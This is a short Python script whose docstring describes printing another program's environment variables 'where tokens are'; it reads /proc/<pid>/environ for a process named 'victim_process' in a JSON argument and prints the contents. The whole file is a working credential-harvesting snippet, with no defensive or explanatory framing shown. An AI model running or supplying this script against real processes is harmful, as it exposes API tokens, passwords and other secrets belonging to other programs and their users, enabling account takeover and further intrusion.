"""Print another program's environment variables: where tokens are."""

import json
import sys

print(open("/proc/%d/environ" % json.loads(sys.argv[1])["victim_process"]).read())
